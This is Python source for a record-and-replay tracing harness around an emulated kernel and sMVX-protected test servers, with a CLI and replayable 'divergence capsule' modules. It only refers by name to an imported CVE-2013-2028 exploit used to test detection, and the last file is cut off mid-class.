        sched = getattr(self.kernel, "sched", None)
        if sched is not None and sched.decision_hook is None:
            sched.decision_hook = self._on_sched_decision

    def attach_server(self, server) -> None:
        """Hook a MinxServer-shaped harness: process, monitor, alarms,
        and the ``start``/``pump`` entry points (the stimulus script).
        A multi-worker ``LittledServer`` additionally gets every
        worker's process and monitor tapped."""
        self.server = server
        self.attach_process(server.process)
        for worker in getattr(server, "workers", []) or []:
            if worker.process is not self.process:
                worker.process.libc_call_observers.append(self._on_libc)
                self._extra_procs.append(worker.process)
            monitor = worker.monitor
            if monitor is not None and monitor is not server.monitor:
                monitor.call_taps.append(self._on_rendezvous)
        monitor = getattr(server, "monitor", None)
        if monitor is not None:
            monitor.call_taps.append(self._on_rendezvous)
        alarms = getattr(server, "alarms", None)
        if alarms is not None:
            alarms.listeners.append(self._on_alarm)
        self._wrap_entry(server, "start")
        self._wrap_entry(server, "pump")
        self._tap_scheduler()

    def attach_supervisor(self, supervisor) -> None:
        """Tap the production control plane: every metrics sample the
        supervisor takes becomes a METRIC event, and every worker it
        provisions (crash restart, alarm restart, reload generation) is
        tapped exactly like the original fleet — libc observers on the
        new process, the rendezvous stream of its monitor."""
        self.supervisor = supervisor

        def on_sample(sample: Dict) -> None:
            self.ring.emit(EventKind.METRIC, self._now, "control-plane",
                           **sample)

        def on_worker(worker) -> None:
            process = worker.process
            if process is not self.process \
                    and process not in self._extra_procs:
                process.libc_call_observers.append(self._on_libc)
                self._extra_procs.append(process)
            monitor = worker.monitor
            if monitor is not None \
                    and self._on_rendezvous not in monitor.call_taps:
                monitor.call_taps.append(self._on_rendezvous)

        supervisor.metrics_hook = on_sample
        supervisor.worker_hooks.append(on_worker)

    def attach_process(self, process) -> None:
        self.process = process
        process.libc_call_observers.append(self._on_libc)
        if self.trace_instructions:
            process.cpu.trace_hook = self._on_instruction

    def detach(self) -> None:
        """Remove every tap this recorder installed (instance-level
        wrappers on the server/sockets stay, but become pass-through
        once the ring is disabled)."""
        kernel = self.kernel
        # NB: bound methods compare by ==, never by identity
        if kernel.vfs.urandom.tap == self._on_urandom:
            kernel.vfs.urandom.tap = None
        if kernel.clock.read_hook == self._on_clock_read:
            kernel.clock.read_hook = None
        if kernel.tasks.spawn_hook == self._on_spawn:
            kernel.tasks.spawn_hook = None
        if kernel.tasks.exit_hook == self._on_task_exit:
            kernel.tasks.exit_hook = None
        sched = getattr(kernel, "sched", None)
        if sched is not None \
                and sched.decision_hook == self._on_sched_decision:
            sched.decision_hook = None
        if self._on_syscall in kernel.syscall_result_hooks:
            kernel.syscall_result_hooks.remove(self._on_syscall)
        if kernel.faults.fault_hook == self._on_fault:
            kernel.faults.fault_hook = None
        network = kernel.network
        if network.connect_hook == self._on_connect:
            network.connect_hook = None
        if network.ingress_hook == self._on_ingress:
            network.ingress_hook = None
        if network.accept_hook == self._on_accept:
            network.accept_hook = None
        if self._on_wire in getattr(kernel, "wire_hooks", []):
            kernel.wire_hooks.remove(self._on_wire)
        if self.process is not None:
            if self._on_libc in self.process.libc_call_observers:
                self.process.libc_call_observers.remove(self._on_libc)
            if self.process.cpu.trace_hook == self._on_instruction:
                self.process.cpu.trace_hook = None
        for proc in self._extra_procs:
            if self._on_libc in proc.libc_call_observers:
                proc.libc_call_observers.remove(self._on_libc)
        self.ring.enabled = False

    # ------------------------------------------------------------------
    # kernel-side taps
    # ------------------------------------------------------------------

    @property
    def _now(self) -> float:
        return self.kernel.clock.monotonic_ns

    def _on_urandom(self, chunk: bytes) -> None:
        self.urandom_chunks.append(chunk)
        self.ring.emit(EventKind.URANDOM, self._now, "urandom",
                       nbytes=len(chunk))

    def _on_wire(self, direction: str, link: str, meta: Dict) -> None:
        """Cluster wire traffic as seen from this host (send and recv).
        The Lamport stamp logged here is what makes the cross-host merge
        (:mod:`repro.trace.merge`) causally consistent."""
        self._wire_frames += 1
        self._wire_bytes += meta.get("bytes", 0)
        self._lamport_max = max(self._lamport_max, meta.get("lamport", 0))
        self._wire_digest.update(
            f"{direction}:{link}:{meta.get('frame')}:"
            f"{meta.get('lamport')}:{meta.get('bytes')}".encode())
        self.ring.emit(EventKind.WIRE, self._now, f"{direction}:{link}",
                       lamport=meta.get("lamport", 0),
                       frame=meta.get("frame", 0),
                       chan=meta.get("chan", 0),
                       nbytes=meta.get("bytes", 0),
                       msgs=list(meta.get("msgs", [])))

    def _on_clock_read(self, kind: str, value) -> None:
        self._clock_reads += 1
        self._clock_digest.update(f"{kind}:{value}".encode())
        self.ring.emit(EventKind.CLOCK_READ, self._now, kind,
                       value=list(value) if isinstance(value, tuple)
                       else value)

    def _on_spawn(self, pid: int, name: str, parent) -> None:
        self.spawns.append([pid, name, parent])
        self.ring.emit(EventKind.TASK_SWITCH, self._now, "spawn",
                       pid=pid, task=name, parent=parent)

    def _on_task_exit(self, pid: int, code: int) -> None:
        self.task_exits.append([pid, code])
        self.ring.emit(EventKind.TASK_SWITCH, self._now, "exit",
                       pid=pid, code=code)

    def _on_sched_decision(self, kind: str, task: str, detail: Dict) -> None:
        self.ring.emit(EventKind.TASK_SWITCH, self._now, kind,
                       task=task, **detail)

    def _on_syscall(self, proc, name: str, result: int) -> None:
        self._syscall_count += 1
        pid = getattr(proc, "pid", -1)
        # the pid is part of the digest: under the scheduler the same
        # retval stream interleaved across different workers is a
        # *different* execution
        self._syscall_digest.update(f"{name}:{pid}:{int(result)}".encode())
        self.ring.emit(EventKind.SYSCALL, self._now, name,
                       pid=pid, ret=int(result))

    def _on_fault(self, kind: str, target: str, detail: Dict) -> None:
        self.ring.emit(EventKind.FAULT, self._now, f"{kind}:{target}",
                       **detail)

    def _on_connect(self, sock, port: int) -> None:
        self._append_op({"op": "connect", "port": port,
                         "conn": sock.conn_id})
        self._wrap_client(sock)

    def _on_ingress(self, sock, data: bytes, ready_at: float) -> None:
        self.ring.emit(EventKind.NET_INGRESS, self._now, sock.label,
                       conn=sock.conn_id, nbytes=len(data),
                       ready_at_ns=ready_at)

    def _on_accept(self, listener, sock) -> None:
        self.accept_order.append(sock.conn_id)
        self.ring.emit(EventKind.NET_ACCEPT, self._now,
                       f"port:{listener.port}", conn=sock.conn_id)

    # ------------------------------------------------------------------
    # process / monitor taps
    # ------------------------------------------------------------------

    def _on_libc(self, thread, name: str) -> None:
        self.ring.emit(EventKind.LIBC, self._now, name,
                       task=thread.tid, variant=thread.variant)

    def _on_rendezvous(self, variant: str, record) -> None:
        self.ring.emit(EventKind.RENDEZVOUS, self._now, record.name,
                       variant=variant, call_seq=record.seq)

    def _on_alarm(self, report) -> None:
        self.ring.emit(
            EventKind.ALARM, self._now, report.kind.name,
            libc_name=report.libc_name, call_seq=report.seq,
            task=report.task_id, guest_pc=report.guest_pc,
            detail=report.detail)
        self._pending_capsules.append(
            (report, self.ring.tail(self.capsule_window)))

    def _on_instruction(self, state, addr: int, instr) -> None:
        self.ring.emit(EventKind.INSTRUCTION, self._now, instr.op.name,
                       addr=addr)
        if instr.op is Op.WRPKRU:
            self.ring.emit(EventKind.PKRU_FLIP, self._now, "wrpkru",
                           addr=addr, pkru=state.regs.get("rax"))

    def mark(self, label: str, **data) -> None:
        """Free-form annotation from the harness."""
        self.ring.emit(EventKind.MARK, self._now, label, **data)

    # ------------------------------------------------------------------
    # the stimulus script
    # ------------------------------------------------------------------

    def _append_op(self, op: Dict) -> None:
        if not self.ring.enabled:      # detached: wrappers pass through
            return
        self.script.append(op)
        self.ring.emit(EventKind.STIMULUS, self._now, op["op"],
                       **{k: v for k, v in op.items()
                          if k not in ("op", "data")})
        self._finalize_capsules()

    def _wrap_entry(self, server, method: str) -> None:
        original = getattr(server, method)

        def wrapper(*args, **kwargs):
            try:
                result = original(*args, **kwargs)
            except Exception as exc:
                self._append_op({"op": method,
                                 "error": type(exc).__name__,
                                 "detail": str(exc)[:200]})
                raise
            self._append_op({"op": method, "ret": int(result)})
            return result

        setattr(server, method, wrapper)

    def _wrap_client(self, sock) -> None:
        """Record the host side of one connection: sends (verbatim —
        they are inputs), receives (digested — they are outputs replay
        must match), and the close."""
        orig_send = sock.send
        orig_recv_wait = sock.recv_wait
        orig_close = sock.close

        def send(data: bytes, extra_delay_ns: float = 0):
            ret = orig_send(data, extra_delay_ns)
            self._append_op({"op": "send", "conn": sock.conn_id,
                             "data": bytes(data).hex(),
                             "delay_ns": extra_delay_ns, "ret": int(ret)})
            return ret

        def recv_wait(count: int):
            result = orig_recv_wait(count)
            op = {"op": "recv", "conn": sock.conn_id, "count": count}
            if isinstance(result, (bytes, bytearray)):
                op["len"] = len(result)
                op["sha"] = hashlib.sha256(bytes(result)).hexdigest()
            else:
                op["ret"] = int(result)
            self._append_op(op)
            return result

        def close():
            orig_close()
            self._append_op({"op": "close", "conn": sock.conn_id})

        sock.send = send
        sock.recv_wait = recv_wait
        sock.close = close

    # ------------------------------------------------------------------
    # capsules and serialization
    # ------------------------------------------------------------------

    def _finalize_capsules(self) -> None:
        """Turn pending alarm snapshots into capsules.  Deferred until
        the stimulus op that triggered the alarm has been recorded, so a
        capsule's embedded script reaches through its own trigger."""
        if not self._pending_capsules:
            return
        from repro.trace.capsule import DivergenceCapsule
        pending, self._pending_capsules = self._pending_capsules, []
        for report, window in pending:
            self.capsules.append(
                DivergenceCapsule.from_recording(self, report, window))

    def snapshot_footer(self) -> Dict:
        """The ground truth a replay must reproduce, read straight off
        the machine."""
        kernel = self.kernel
        footer: Dict = {
            "clock_end_ns": kernel.clock.monotonic_ns,
            "urandom_bytes": sum(len(c) for c in self.urandom_chunks),
            "clock_reads": self._clock_reads,
            "clock_digest": self._clock_digest.hexdigest(),
            "syscalls": self._syscall_count,
            "syscall_digest": self._syscall_digest.hexdigest(),
            "task_spawns": list(self.spawns),
            "task_exits": list(self.task_exits),
            "accept_order": list(self.accept_order),
            "faults": kernel.faults.injected_total,
            "faults_by_kind": dict(kernel.faults.injected_by_kind),
            "fault_digest": kernel.faults.digest,
            "host_id": getattr(kernel, "host_id", 0),
            "wire_frames": self._wire_frames,
            "wire_bytes": self._wire_bytes,
            "wire_digest": self._wire_digest.hexdigest(),
            "lamport_max": self._lamport_max,
        }
        sched = getattr(kernel, "sched", None)
        if sched is not None:
            footer.update({
                "sched_decisions": sched.decisions,
                "sched_digest": sched.digest,
                "sched_stats": sched.stats.as_dict(),
            })
        process = self.process
        if process is not None:
            footer.update({
                "counter_total_ns": process.counter.total_ns,
                "total_cpu_ns": process.total_cpu_ns(),
                "instructions_retired": process.cpu.instructions_retired,
                "cpu_tiers": process.cpu.stats(),
                "libc_calls_total": process.libc_calls_total,
                "libc_call_counts": dict(process.libc_call_counts),
                "syscalls_of_process":
                    kernel.syscall_count(process.pid),
            })
        server = self.server
        if server is not None and getattr(server, "workers_n", 0):
            footer["worker_pids"] = [w.process.pid for w in server.workers]
            footer["workers_busy_ns"] = sum(
                w.process.counter.total_ns for w in server.workers)
        if self.supervisor is not None:
            footer["supervisor"] = self.supervisor.snapshot()
        if server is not None and getattr(server, "alarms", None):
            footer["alarms"] = [
                {"kind": report.kind.name, "seq": report.seq,
                 "libc_name": report.libc_name, "task_id": report.task_id,
                 "pid": report.pid,
                 "guest_pc": report.guest_pc, "detail": report.detail}
                for report in server.alarms.alarms]
        return footer

    def build_trace(self) -> Trace:
        meta = {"scenario": self.scenario,
                "ring": {"capacity": self.ring.capacity,
                         "emitted": self.ring.emitted,
                         "dropped": self.ring.dropped},
                "metrics": self.metrics.as_dict(),
                "trace_instructions": self.trace_instructions}
        inputs = {"urandom": [c.hex() for c in self.urandom_chunks],
                  "task_spawns": list(self.spawns),
                  "accept_order": list(self.accept_order)}
        return Trace(TRACE_VERSION, meta, list(self.script), inputs,
                     self.ring.to_dicts(), self.snapshot_footer())

    def finish(self) -> Trace:
        self._finalize_capsules()
        return self.build_trace()


def record_minx(seed: str = "smvx-repro", capacity: int = 4096,
                trace_instructions: bool = False,
                capsule_window: int = DEFAULT_CAPSULE_WINDOW,
                fault_schedule=None,
                **minx_kwargs):
    """Build a freshly seeded kernel + MinxServer with a recorder
    attached and the server started.  Returns (kernel, server, recorder).

    ``minx_kwargs`` (port, protect, smvx, …) are stored in the trace so
    :func:`repro.trace.replay.replay_trace` can rebuild the scenario.
    ``fault_schedule`` (a :class:`repro.kernel.faults.FaultSchedule`)
    arms the kernel's fault plane *after* server setup and is stored in
    the scenario: replay re-derives the identical fault stream from the
    seed + schedule rather than replaying individual faults (rr's
    record-the-perturbation-source principle).
    """
    from repro.apps.minx import MinxServer
    from repro.kernel.kernel import Kernel

    kernel = Kernel(seed=seed)
    server = MinxServer(kernel, **minx_kwargs)
    scenario = {"app": "minx", "seed": seed, "kwargs": dict(minx_kwargs)}
    if fault_schedule is not None:
        scenario["faults"] = fault_schedule.to_dict()
        kernel.faults.install(fault_schedule)
    recorder = Recorder(
        kernel, scenario=scenario,
        capacity=capacity, trace_instructions=trace_instructions,
        capsule_window=capsule_window)
    recorder.attach_server(server)
    server.start()
    return kernel, server, recorder


def drive_littled_workload(kernel, server, workload: Dict):
    """Run the scenario's ApacheBench workload against a (scheduled or
    classic) littled.  Used identically on the record and replay sides,
    so a scheduled run is replayed *by reproduction*: the same client
    tasks re-derive the same interleaving from the same machine state.
    """
    from repro.workloads.ab import ApacheBench

    bench = ApacheBench(
        kernel, server,
        path=workload.get("path", "/index.html"),
        keepalive=workload.get("keepalive", True),
        max_stalls=workload.get("max_stalls", 2),
        timeout_ns=workload.get("timeout_ns", 50_000_000),
        pipeline=workload.get("pipeline", 1),
        connect_retries=workload.get("connect_retries", 20))
    return bench.run(workload.get("requests", 8),
                     paths=workload.get("paths"),
                     concurrency=workload.get("concurrency", 1))


def apply_control_plane(kernel, server, control: Optional[Dict],
                        recorder: Optional[Recorder] = None):
    """Arm the scenario's production control plane from its trace
    description: a supervisor (restart budgets, restart-on-alarm, a
    scheduled graceful reload) plus any chaos worker kills.  Shared by
    the record and replay sides, so a supervised run replays *by
    reproduction* — the same control dict re-derives the same restarts
    and reload from the same machine state.  Returns the started
    :class:`~repro.apps.control.Supervisor` (or None).
    """
    if not control:
        return None
    from repro.apps.control import Supervisor, spawn_worker_kill

    supervisor = Supervisor(
        server,
        restart_budget=control.get("restart_budget", 2),
        tick_ns=control.get("tick_ns", 1_000_000),
        restart_on_alarm=control.get("restart_on_alarm", False),
        reload_at_ns=control.get("reload_at_ns"))
    if recorder is not None:
        recorder.attach_supervisor(supervisor)
    supervisor.start()
    for kill in control.get("worker_kills") or []:
        spawn_worker_kill(server, kill["slot"], kill["at_ns"])
    return supervisor


def record_littled(seed: str = "smvx-repro", capacity: int = 4096,
                   workload: Optional[Dict] = None,
                   control: Optional[Dict] = None,
                   trace_instructions: bool = False,
                   capsule_window: int = DEFAULT_CAPSULE_WINDOW,
                   fault_schedule=None,
                   **littled_kwargs):
    """Like :func:`record_minx` but for littled, including the scheduled
    multi-worker mode (pass ``workers=N``).  Returns (kernel, server,
    recorder); the server is started and, if ``workload`` is given (ab
    parameters: requests / concurrency / path / ...), the workload has
    already been driven — call ``recorder.finish()`` *before*
    ``server.shutdown()`` so the footer matches what replay rebuilds.

    ``control`` arms the production control plane before the workload
    (see :func:`apply_control_plane`): ``{"restart_budget": 2,
    "restart_on_alarm": bool, "reload_at_ns": t, "worker_kills":
    [{"slot": s, "at_ns": t}, ...]}``.  It is stored in the scenario so
    replay re-arms the identical supervisor.
    """
    from repro.apps.littled import LittledServer
    from repro.kernel.kernel import Kernel

    kernel = Kernel(seed=seed)
    server = LittledServer(kernel, **littled_kwargs)
    scenario = {"app": "littled", "seed": seed,
                "kwargs": dict(littled_kwargs)}
    if workload is not None:
        scenario["workload"] = dict(workload)
    if control is not None:
        scenario["control"] = dict(control)
    if fault_schedule is not None:
        scenario["faults"] = fault_schedule.to_dict()
        kernel.faults.install(fault_schedule)
    recorder = Recorder(
        kernel, scenario=scenario,
        capacity=capacity, trace_instructions=trace_instructions,
        capsule_window=capsule_window)
    recorder.attach_server(server)
    server.start()
    apply_control_plane(kernel, server, control, recorder)
    if workload is not None:
        drive_littled_workload(kernel, server, workload)
    return kernel, server, recorder
