"""Command-line front end for the flight recorder.

::

    python -m repro.trace.cli record trace.json --requests 3 --attack \
        --capsule capsule.json
    python -m repro.trace.cli info trace.json
    python -m repro.trace.cli events trace.json --kind libc --limit 20
    python -m repro.trace.cli export trace.json trace.chrome.json
    python -m repro.trace.cli replay trace.json
    python -m repro.trace.cli capsule-info capsule.json
    python -m repro.trace.cli capsule-replay capsule.json

``replay`` and ``capsule-replay`` exit non-zero when the re-execution is
not bit-identical / does not re-raise the recorded alarm, so both are
usable as CI assertions over checked-in traces.
"""

from __future__ import annotations

import argparse
import sys
from typing import List, Optional

from repro.trace.capsule import DivergenceCapsule
from repro.trace.events import EventKind
from repro.trace.export import write_chrome_trace
from repro.trace.record import Trace, record_minx
from repro.trace.replay import replay_trace

DEFAULT_PROTECT = "minx_http_process_request_line"


def _cmd_record(args) -> int:
    minx_kwargs = {}
    if args.smvx:
        minx_kwargs.update(protect=args.protect, smvx=True)
    kernel, server, recorder = record_minx(
        seed=args.seed, capacity=args.capacity,
        trace_instructions=args.trace_instructions, **minx_kwargs)
    if args.requests:
        from repro.workloads import ApacheBench
        result = ApacheBench(kernel, server).run(args.requests)
        print(f"ab: {result.requests_completed}/{args.requests} requests "
              f"completed, {result.failures} failures")
    if args.attack:
        from repro.attacks import run_exploit
        outcome = run_exploit(server)
        print(f"attack: created={outcome.directory_created} "
              f"detected={outcome.divergence_detected} "
              f"alarms={outcome.alarm_count}")
    trace = recorder.finish()
    trace.save(args.out)
    print(f"recorded {len(trace.script)} stimulus ops, "
          f"{trace.meta['ring']['emitted']} events "
          f"({trace.meta['ring']['dropped']} dropped) -> {args.out}")
    if recorder.capsules:
        print(f"{len(recorder.capsules)} divergence capsule(s) captured")
        if args.capsule:
            recorder.capsules[0].save(args.capsule)
            print(f"capsule -> {args.capsule}")
    elif args.capsule:
        print("no capsule captured (no alarm raised)")
    return 0


#: footer pins surfaced by ``info`` (text and --json modes).
_INFO_FOOTER_KEYS = (
    "clock_end_ns", "counter_total_ns", "instructions_retired",
    "cpu_tiers",
    "libc_calls_total", "syscalls", "syscall_digest", "clock_digest",
    "fault_digest", "sched_digest", "host_id", "wire_frames",
    "wire_bytes", "wire_digest", "lamport_max",
)


def _info_summary(trace: Trace) -> dict:
    """Machine-readable ``info``: scenario, ring counts, footer pins."""
    meta, footer = trace.meta, trace.footer
    ring = meta.get("ring", {})
    return {
        "version": trace.version,
        "scenario": meta.get("scenario"),
        "events": {"emitted": ring.get("emitted"),
                   "dropped": ring.get("dropped"),
                   "capacity": ring.get("capacity")},
        "stimulus_ops": len(trace.script),
        "urandom_chunks": len(trace.inputs.get("urandom", [])),
        "footer": {key: footer.get(key) for key in _INFO_FOOTER_KEYS},
        "event_counts": _event_counts(trace),
        "alarms": list(footer.get("alarms", [])),
    }


def _event_counts(trace: Trace) -> dict:
    counts: dict = {}
    for event in trace.events:
        kind = event.get("kind", "?")
        counts[kind] = counts.get(kind, 0) + 1
    return counts


def _cmd_info(args) -> int:
    trace = Trace.load(args.trace)
    if getattr(args, "json", False):
        import json as json_mod
        print(json_mod.dumps(_info_summary(trace), indent=2,
                             sort_keys=True))
        return 0
    meta, footer = trace.meta, trace.footer
    print(f"trace version {trace.version}")
    print(f"scenario: {meta.get('scenario')}")
    ring = meta.get("ring", {})
    print(f"events: {ring.get('emitted')} emitted, "
          f"{ring.get('dropped')} dropped "
          f"(ring capacity {ring.get('capacity')})")
    print(f"stimulus ops: {len(trace.script)}")
    print(f"urandom chunks: {len(trace.inputs.get('urandom', []))}")
    for key in _INFO_FOOTER_KEYS:
        print(f"{key}: {footer.get(key)}")
    alarms = footer.get("alarms", [])
    print(f"alarms: {len(alarms)}")
    for alarm in alarms:
        print(f"  {alarm['kind']} at pc={alarm['guest_pc']:#x} "
              f"task={alarm['task_id']} libc={alarm['libc_name']}")
    return 0


def _cmd_events(args) -> int:
    trace = Trace.load(args.trace)
    events = trace.events
    if args.kind:
        want = EventKind(args.kind).value
        events = [e for e in events if e["kind"] == want]
    if args.limit:
        events = events[-args.limit:]
    for event in events:
        data = event.get("data", {})
        extras = " ".join(f"{k}={v}" for k, v in data.items())
        print(f"#{event['seq']:<6} t={event['t_ns']:<14} "
              f"{event['kind']:<12} {event.get('name', ''):<24} {extras}")
    print(f"({len(events)} events)")
    return 0


def _cmd_export(args) -> int:
    trace = Trace.load(args.trace)
    count = write_chrome_trace(args.out, trace.events)
    print(f"exported {count} events -> {args.out} "
          "(load in chrome://tracing or ui.perfetto.dev)")
    return 0


def _cmd_replay(args) -> int:
    trace = Trace.load(args.trace)
    try:
        result = replay_trace(trace)
    except ValueError as error:
        print(f"cannot replay: {error}", file=sys.stderr)
        return 1
    print(result.summary())
    return 0 if result.ok else 1


def _cmd_capsule_info(args) -> int:
    capsule = DivergenceCapsule.load(args.capsule)
    report = capsule.report
    print(f"capsule version {capsule.version}")
    print(f"alarm: {report.get('kind')} at pc={report.get('guest_pc'):#x} "
          f"task={report.get('task_id')} libc={report.get('libc_name')} "
          f"call_seq={report.get('seq')}")
    print(f"detail: {report.get('detail')}")
    print(f"window: {len(capsule.window)} events leading to the alarm")
    tail = capsule.window[-args.last:] if args.last else []
    for event in tail:
        print(f"  #{event['seq']:<6} {event['kind']:<12} "
              f"{event.get('name', '')}")
    embedded = capsule.trace
    print(f"embedded trace: {len(embedded.get('script', []))} stimulus "
          f"ops, scenario {embedded.get('meta', {}).get('scenario')}")
    return 0


def _cmd_capsule_replay(args) -> int:
    capsule = DivergenceCapsule.load(args.capsule)
    result = capsule.replay()
    print(result.summary())
    return 0 if result.reproduced else 1


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="python -m repro.trace.cli",
        description="record, inspect, replay, and export guest-run traces")
    sub = parser.add_subparsers(dest="command", required=True)

    p = sub.add_parser("record", help="record a minx run to a trace file")
    p.add_argument("out", help="trace file to write")
    p.add_argument("--seed", default="smvx-repro",
                   help="determinism seed (urandom stream)")
    p.add_argument("--requests", type=int, default=3,
                   help="benign ab requests to record (0 for none)")
    p.add_argument("--attack", action="store_true",
                   help="fire the CVE-2013-2028 exploit after the traffic")
    p.add_argument("--capsule", metavar="PATH",
                   help="write the first divergence capsule here")
    p.add_argument("--smvx", action="store_true", default=True,
                   help="run under sMVX protection (default)")
    p.add_argument("--vanilla", dest="smvx", action="store_false",
                   help="run the unprotected server")
    p.add_argument("--protect", default=DEFAULT_PROTECT,
                   help=f"protected root function (default {DEFAULT_PROTECT})")
    p.add_argument("--capacity", type=int, default=4096,
                   help="event ring capacity")
    p.add_argument("--trace-instructions", action="store_true",
                   help="also record per-instruction events (slow)")
    p.set_defaults(func=_cmd_record)

    p = sub.add_parser("info", help="summarize a trace file")
    p.add_argument("trace")
    p.add_argument("--json", action="store_true",
                   help="machine-readable summary: scenario, event "
                        "counts, and footer pins (fault_digest, "
                        "sched_digest, wire_digest, ...)")
    p.set_defaults(func=_cmd_info)

    p = sub.add_parser("events", help="list events from a trace file")
    p.add_argument("trace")
    p.add_argument("--kind", choices=[k.value for k in EventKind],
                   help="only this event kind")
    p.add_argument("--limit", type=int, default=0,
                   help="only the last N matching events")
    p.set_defaults(func=_cmd_events)

    p = sub.add_parser("export", help="export Chrome trace-event JSON")
    p.add_argument("trace")
    p.add_argument("out")
    p.set_defaults(func=_cmd_export)

    p = sub.add_parser("replay",
                       help="re-execute a trace; fail if not bit-identical")
    p.add_argument("trace")
    p.set_defaults(func=_cmd_replay)

    p = sub.add_parser("capsule-info", help="summarize a divergence capsule")
    p.add_argument("capsule")
    p.add_argument("--last", type=int, default=8,
                   help="show the last N window events")
    p.set_defaults(func=_cmd_capsule_info)

    p = sub.add_parser("capsule-replay",
                       help="replay a capsule; fail unless the same alarm "
                            "re-fires at the same guest PC")
    p.add_argument("capsule")
    p.set_defaults(func=_cmd_capsule_replay)
    return parser


def main(argv: Optional[List[str]] = None) -> int:
    args = build_parser().parse_args(argv)
    return args.func(args)


if __name__ == "__main__":
    sys.exit(main())
