"""Divergence capsules: a replayable snapshot taken when an alarm fires.

When ``AlarmLog.raise_alarm`` goes off mid-run, the attached recorder
freezes the last-N ring events and — once the stimulus op that triggered
the alarm has landed in the script — packs them together with the full
recording so far into a :class:`DivergenceCapsule`.  The capsule is
self-contained: it embeds the divergence report (kind, libc call seq,
task id, guest PC), the event window leading up to the alarm, and a
complete :class:`~repro.trace.record.Trace` whose replay re-executes the
run from scratch and must re-raise the *same* alarm at the *same* guest
PC.  That turns a one-in-a-thousand divergence into a deterministic unit
test you can ship in a bug report.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import Dict, List, Optional

CAPSULE_VERSION = 1


@dataclass
class CapsuleReplayResult:
    """Verdict of replaying a capsule: did the same alarm come back?"""

    reproduced: bool                 # same alarm kind at the same guest PC
    replay_ok: bool                  # full bit-identical replay
    matched_alarm: Optional[Dict] = None
    mismatches: List[str] = field(default_factory=list)

    def summary(self) -> str:
        if self.reproduced:
            alarm = self.matched_alarm or {}
            pc = alarm.get("guest_pc", -1)
            return (f"capsule reproduced: {alarm.get('kind')} at "
                    f"pc={pc:#x} (replay "
                    f"{'bit-identical' if self.replay_ok else 'diverged'})")
        lines = ["capsule NOT reproduced"]
        lines += [f"  - {m}" for m in self.mismatches[:20]]
        return "\n".join(lines)


@dataclass
class DivergenceCapsule:
    """Alarm report + event window + the full recording that led there."""

    version: int = CAPSULE_VERSION
    report: Dict = field(default_factory=dict)
    window: List[Dict] = field(default_factory=list)
    trace: Dict = field(default_factory=dict)

    @classmethod
    def from_recording(cls, recorder, report, window) -> "DivergenceCapsule":
        return cls(
            version=CAPSULE_VERSION,
            report={"kind": report.kind.name, "seq": report.seq,
                    "libc_name": report.libc_name,
                    "task_id": report.task_id,
                    "guest_pc": report.guest_pc,
                    "detail": report.detail},
            window=recorder.ring.to_dicts(window),
            trace=recorder.build_trace().to_dict())

    # -- serialization -------------------------------------------------------

    def to_dict(self) -> Dict:
        return {"version": self.version, "report": self.report,
                "window": self.window, "trace": self.trace}

    @staticmethod
    def from_dict(raw: Dict) -> "DivergenceCapsule":
        version = raw.get("version")
        if version != CAPSULE_VERSION:
            raise ValueError(
                f"unsupported capsule version {version!r} "
                f"(this build reads version {CAPSULE_VERSION})")
        return DivergenceCapsule(version, raw.get("report", {}),
                                 raw.get("window", []),
                                 raw.get("trace", {}))

    def save(self, path: str) -> None:
        with open(path, "w", encoding="utf-8") as fh:
            json.dump(self.to_dict(), fh, sort_keys=True)

    @staticmethod
    def load(path: str) -> "DivergenceCapsule":
        with open(path, "r", encoding="utf-8") as fh:
            return DivergenceCapsule.from_dict(json.load(fh))

    # -- replay --------------------------------------------------------------

    def replay(self) -> CapsuleReplayResult:
        """Re-execute the embedded trace and check the alarm comes back
        with the same kind at the same guest PC."""
        from repro.trace.record import Trace
        from repro.trace.replay import replay_trace

        result = replay_trace(Trace.from_dict(self.trace))
        want_kind = self.report.get("kind")
        want_pc = self.report.get("guest_pc")
        matched = None
        for alarm in result.replayed_footer.get("alarms", []):
            if (alarm.get("kind") == want_kind
                    and alarm.get("guest_pc") == want_pc):
                matched = alarm
                break
        mismatches = list(result.mismatches)
        if matched is None:
            mismatches.insert(0, (
                f"no replayed alarm matches {want_kind} at "
                f"pc={want_pc:#x}; replay raised "
                f"{[a.get('kind') for a in result.replayed_footer.get('alarms', [])]}"))
        return CapsuleReplayResult(reproduced=matched is not None,
                                   replay_ok=result.ok,
                                   matched_alarm=matched,
                                   mismatches=mismatches)
