"""Replayable failure capsules.

Two kinds live here:

* :class:`DivergenceCapsule` — a snapshot taken when ``AlarmLog.
  raise_alarm`` goes off mid-run: the divergence report, the last-N ring
  events, and the full recording so far, whose replay must re-raise the
  *same* alarm at the *same* guest PC.
* :class:`ScenarioCapsule` — the output of `repro.sim`'s shrinker: a
  minimized scenario dict plus the failure signature and combined digest
  of its final run.  Replay re-derives the whole run from the scenario
  (scenarios are pure functions of their seeds — nothing is played back)
  and must reproduce the identical outcome class *and* bit-identical
  digests.

Both turn a one-in-a-thousand failure into a deterministic unit test you
can ship in a bug report.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import Dict, List, Optional

CAPSULE_VERSION = 1


@dataclass
class CapsuleReplayResult:
    """Verdict of replaying a capsule: did the same alarm come back?"""

    reproduced: bool                 # same alarm kind at the same guest PC
    replay_ok: bool                  # full bit-identical replay
    matched_alarm: Optional[Dict] = None
    mismatches: List[str] = field(default_factory=list)

    def summary(self) -> str:
        if self.reproduced:
            alarm = self.matched_alarm or {}
            pc = alarm.get("guest_pc", -1)
            return (f"capsule reproduced: {alarm.get('kind')} at "
                    f"pc={pc:#x} (replay "
                    f"{'bit-identical' if self.replay_ok else 'diverged'})")
        lines = ["capsule NOT reproduced"]
        lines += [f"  - {m}" for m in self.mismatches[:20]]
        return "\n".join(lines)


@dataclass
class DivergenceCapsule:
    """Alarm report + event window + the full recording that led there."""

    version: int = CAPSULE_VERSION
    report: Dict = field(default_factory=dict)
    window: List[Dict] = field(default_factory=list)
    trace: Dict = field(default_factory=dict)

    @classmethod
    def from_recording(cls, recorder, report, window) -> "DivergenceCapsule":
        return cls(
            version=CAPSULE_VERSION,
            report={"kind": report.kind.name, "seq": report.seq,
                    "libc_name": report.libc_name,
                    "task_id": report.task_id,
                    "guest_pc": report.guest_pc,
                    "detail": report.detail},
            window=recorder.ring.to_dicts(window),
            trace=recorder.build_trace().to_dict())

    # -- serialization -------------------------------------------------------

    def to_dict(self) -> Dict:
        return {"version": self.version, "report": self.report,
                "window": self.window, "trace": self.trace}

    @staticmethod
